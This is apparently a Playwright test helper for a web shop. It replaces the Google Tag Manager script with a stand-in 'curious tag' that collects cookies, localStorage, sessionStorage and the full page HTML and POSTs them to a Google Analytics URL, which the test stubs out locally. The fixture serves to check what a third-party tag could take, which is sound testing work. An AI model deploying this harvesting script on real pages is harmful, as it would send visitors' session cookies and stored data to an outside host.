import type { BrowserContext } from 'playwright-core'

/** Runs in the page in the place of a tag manager: like a real one it tells its house where it is, and what it finds there. */
function reportEverything() {
  const report = () =>
    void fetch('https://www.google-analytics.com/g/collect', {
      method: 'POST',
      mode: 'no-cors',
      body: JSON.stringify([
        location.href,
        document.referrer,
        document.title,
        document.cookie,
        history.state,
        Object.entries(localStorage),
        Object.entries(sessionStorage),
        Reflect.get(globalThis, 'dataLayer'),
        document.documentElement.outerHTML,
      ]),
    })
  const layer = Reflect.get(globalThis, 'dataLayer') as unknown[]
  const push = layer.push.bind(layer)
  layer.push = (...reported) => {
    const length = push(...reported)
    report()
    return length
  }
  addEventListener('popstate', report)
  report()
}

/** Lets a tag manager in that sends whatever it can see. Nothing leaves this machine. */
export async function letCuriousTagIn(context: BrowserContext): Promise<void> {
  await context.route(/^https:\/\/www\.googletagmanager\.com\/gtm\.js/, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `(${String(reportEverything)})()` }),
  )
  await context.route(/^https:\/\/www\.google-analytics\.com\//, (route) => route.fulfill({ status: 204 }))
}

/** From whom something is asked: the shop; others, for the code of the container; by that code; by somebody whom nobody let in. */
export type Asker = 'shop' | 'container' | 'tag' | 'stranger'

export function findAsker(url: string, shopUrl: string): Asker {
  const { origin, host, pathname, protocol } = new URL(url)
  if (origin === shopUrl || !/^(?:https?|wss?):$/.test(protocol)) return 'shop'
  if (host === 'www.googletagmanager.com' && pathname === '/gtm.js') return 'container'
  return host === 'www.google-analytics.com' ? 'tag' : 'stranger'
}
